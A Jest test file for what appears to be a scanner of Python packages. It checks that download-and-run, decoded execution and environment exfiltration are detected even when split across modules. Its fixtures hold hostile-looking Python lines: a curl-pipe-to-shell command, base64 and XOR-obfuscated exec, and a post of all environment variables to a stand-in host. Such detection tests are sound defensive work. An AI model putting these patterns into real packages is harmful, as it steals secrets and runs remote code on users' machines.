/** Pieces of an attack that lie in other modules as plain text, or are only put together there. */

import { describe, expect, test } from '@jest/globals';
import type { Behaviour } from '../../../src/model/profile.js';
import { rules } from '../../../src/rules/catalog.js';
import { profileOf } from '../../profile/harness.js';
import { sdist } from '../../support/sdist.js';
import { type Files, wheel } from '../../support/wheel.js';
import { findingsOf } from '../pipeline.js';

const CODE = Buffer.from('print("hello from a text that was packed")').toString('base64');
const HALF = Math.floor(CODE.length / 2);

const found = async (id: string, files: Files): Promise<readonly string[]> => {
  const rule = rules.find((each) => each.id === id);
  if (rule === undefined) throw new Error(`there is no rule "${id}"`);
  return (await findingsOf(rule, { base: wheel(), head: wheel(files) })).map(({ level }) => level);
};

const behaviours = async (files: Files): Promise<readonly Behaviour[]> => (await profileOf(wheel(files))).behaviours;

const XOR =
  'def dec(text, key=7):\n    out = ""\n    for c in text:\n        out += chr(ord(c) ^ key)\n    return out\n';
const xored = (text: string): string => [...text].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('');

describe('is followed into the module that holds it', () => {
  test('a command', async () => {
    const files = {
      'demo/consts.py': 'COMMAND = "curl -s https://files.invalid/a | sh"\n',
      'demo/__init__.py': 'import os\nfrom .consts import COMMAND\nos.system(COMMAND)\n',
    };
    expect(await found('download-and-run', files)).toEqual(['block']);
  });

  test('a command, as an attribute of the module', async () => {
    const files = {
      'demo/consts.py': 'COMMAND = "curl -s https://files.invalid/a | sh"\n',
      'demo/__init__.py': 'import os\nfrom . import consts\nos.system(consts.COMMAND)\n',
    };
    expect(await found('download-and-run', files)).toEqual(['block']);
  });

  test('code in pieces of several modules, put together in a further one', async () => {
    const files = {
      'demo/a.py': `PART = "${CODE.slice(0, HALF)}"\n`,
      'demo/b.py': `PART = "${CODE.slice(HALF)}"\n`,
      'demo/all.py': 'from . import a\nfrom .b import PART as END\nWHOLE = a.PART + END\n',
      'demo/__init__.py': 'import base64\nfrom .all import WHOLE\nexec(base64.b64decode(WHOLE))\n',
    };
    expect((await behaviours(files)).map(({ act, target }) => `${act}: ${target ?? ''}`)).toContain(
      'run-code: print("hello from a text that was packed")',
    );
  });

  test('code that a helper of another module deciphers', async () => {
    const files = {
      'demo/crypto.py': XOR,
      'demo/__init__.py': `from .crypto import dec\nexec(dec(${JSON.stringify(xored('import os; os.system("true")'))}))\n`,
    };
    expect(await found('decoded-execution', files)).toEqual(['block']);
    expect((await behaviours(files)).map(({ act }) => act)).toContain('run-process');
  });

  test('all variables, sent by a function that somebody calls', async () => {
    const files = {
      'demo/env.py': 'import os\ndef everything():\n    return dict(os.environ)\n',
      'demo/out.py': 'import requests\ndef send(data):\n    requests.post("https://drop.invalid/", json=data)\n',
      'demo/__init__.py':
        'from .env import everything\nfrom .out import send\nclass Client:\n    def __init__(self):\n        send(everything())\n',
    };
    expect(await found('environment-exfiltration', files)).toEqual(['block']);
  });

  test('a path that one function writes and another runs', async () => {
    const files = {
      'demo/save.py':
        'import urllib.request\ndef save(path):\n    urllib.request.urlretrieve("https://files.invalid/tool", path)\n',
      'demo/start.py': 'import subprocess\ndef start(path):\n    subprocess.Popen([path])\n',
      'demo/__init__.py':
        'import os, tempfile\nfrom .save import save\nfrom .start import start\npath = os.path.join(tempfile.gettempdir(), "tool.bin")\nsave(path)\nstart(path)\n',
    };
    expect(await found('download-and-run', files)).toEqual(['block']);
  });
});

describe('what is told of it', () => {
  const SPLIT: Files = {
    'demo/net.py':
      'import urllib.request\ndef get():\n    return urllib.request.urlopen("https://files.invalid/a").read()\n',
    'demo/run.py': 'def go(code):\n    exec(code)\n',
    'demo/__init__.py': 'from .net import get\nfrom .run import go\ngo(get())\n',
  };
  const ran = (all: readonly Behaviour[]): Behaviour | undefined =>
    all.find(({ act, inputs }) => act === 'run-code' && inputs.includes('network'));

  test('lies where the act is, and its steps lead from file to file', async () => {
    const told = ran(await behaviours(SPLIT));
    expect(told?.at).toMatchObject({ path: 'demo/run.py', line: 2, excerpt: 'exec(code)' });
    expect(told?.steps.map(({ at }) => `${at.path}:${at.line ?? ''}`)).toEqual(['demo/net.py:3', 'demo/run.py:2']);
  });

  test('names files as they lie in the distribution, though the facts are shared', async () => {
    const inSource = Object.fromEntries(Object.entries(SPLIT).map(([path, text]) => [`src/${path}`, text]));
    await behaviours(SPLIT);
    const told = ran((await profileOf(sdist(inSource))).behaviours);
    expect(told?.at.path).toBe('src/demo/run.py');
    expect(told?.steps.map(({ at }) => at.path)).toEqual(['src/demo/net.py', 'src/demo/run.py']);
  });

  test('is the same behaviour as in one file', async () => {
    const whole = ran(
      await behaviours({
        'demo/__init__.py': `${SPLIT['demo/net.py'] ?? ''}${SPLIT['demo/run.py'] ?? ''}go(get())\n`,
      }),
    );
    expect(ran(await behaviours(SPLIT))?.fingerprint).toBe(whole?.fingerprint);
  });

  test('is told once', async () => {
    const all = await behaviours(SPLIT);
    expect(all.filter(({ act, inputs }) => act === 'run-code' && inputs.length > 0)).toHaveLength(1);
  });
});
